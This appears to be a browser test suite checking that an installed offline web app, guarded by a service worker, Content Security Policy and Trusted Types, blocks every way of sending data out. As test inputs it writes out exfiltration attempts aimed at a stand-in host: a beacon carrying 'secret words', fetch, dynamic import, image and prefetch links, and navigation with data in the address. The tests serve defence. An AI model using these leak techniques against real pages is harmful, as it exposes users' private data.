// Once the app is kept on the device, no page of it can put words into an address for the host's log, and no way leads
// to another host.

import { expect, openKept, test } from "../support/browser.ts";

test.describe("with the service worker at work", () => {
  // The browser tells the console about every refusal.
  test.use({ allowedNoise: [/Failed to (load|fetch)|ERR_FAILED|Content Security Policy/] });

  test("[A1] a request for anything the app is not made of reaches nobody, nothing elsewhere is asked for, and the page cannot be sent anywhere with words", async ({
    page,
    site,
    wayOut,
  }) => {
    await openKept(page);
    const before = site.requests.length;

    await test.step("a request for anything the app is not made of", async () => {
      const outcomes = await page.evaluate(async () => {
        const attempts: [string, RequestInit][] = [
          ["/secret-words", {}],
          ["/assets/secret-words.js", {}],
          ["/integrity.json", {}],
          ["/", { method: "POST", body: "secret words" }],
          ["/index.html", { method: "PUT", body: "secret words" }],
        ];
        return Promise.all(
          attempts.map(([url, init]) =>
            fetch(url, init).then(
              () => "answered",
              () => "refused",
            ),
          ),
        );
      });

      expect(outcomes).toEqual(["refused", "refused", "refused", "refused", "refused"]);
      expect(site.requests.slice(before)).toEqual([]);
    });

    await test.step("an image, a style sheet, a script or a beacon elsewhere", async () => {
      const attemptsBefore = wayOut.attempts.length;
      await page.evaluate(async () => {
        const elsewhere = "http://elsewhere.example/";
        document.body.append(Object.assign(new Image(), { src: `${elsewhere}image` }));
        for (const [rel, as] of [
          ["stylesheet", ""],
          ["preconnect", ""],
          ["dns-prefetch", ""],
          ["prefetch", ""],
          ["preload", "image"],
        ]) {
          const link = document.createElement("link");
          Object.assign(link, { rel, as, href: `${elsewhere}${rel}` });
          document.head.append(link);
        }
        navigator.sendBeacon(`${elsewhere}beacon`, "secret words");
        await fetch(`${elsewhere}fetch`).catch(() => undefined);
        await import(`${elsewhere}import`).catch(() => undefined);
        await new Promise((resolve) => setTimeout(resolve, 1000));
      });

      expect(wayOut.attempts.slice(attemptsBefore)).toEqual([]);
    });

    await test.step("another site, and an address with words in it", async () => {
      for (const address of [
        "http://elsewhere.example/?secret-words",
        "/?secret-words",
        "/secret-words",
      ]) {
        await page.evaluate((to) => {
          location.href = to;
        }, address);
        await page.waitForTimeout(300);
        expect(page.url()).toBe(`${site.origin}/`);
      }
      expect(site.requests.slice(before)).toEqual([]);
    });
  });
});

test.describe("with Trusted Types", () => {
  test.use({ allowedNoise: [/Trusted|trusted-types/] });

  test("a page cannot open windows or talk to other machines directly, and an address from a string cannot start a worker or a script", async ({
    page,
  }) => {
    await page.goto("/");

    const left = await page.evaluate(() =>
      ["open", "RTCPeerConnection", "webkitRTCPeerConnection", "WebTransport"].filter(
        (name) => Reflect.get(window, name) !== undefined,
      ),
    );

    expect(left).toEqual([]);

    const outcomes = await page.evaluate(() => {
      const attempts = [
        () => new Worker("/assets/any.js"),
        () => Object.assign(document.createElement("script"), { src: "/assets/any.js" }),
        () => Object.assign(document.createElement("div"), { innerHTML: "<b>words</b>" }),
        () => trustedTypes?.createPolicy("another", { createScriptURL: (url) => url }),
      ];
      return attempts.map((attempt) => {
        try {
          attempt();
          return "allowed";
        } catch (error) {
          return error instanceof TypeError ? "refused" : "other";
        }
      });
    });

    expect(outcomes).toEqual(["refused", "refused", "refused", "refused"]);
  });
});
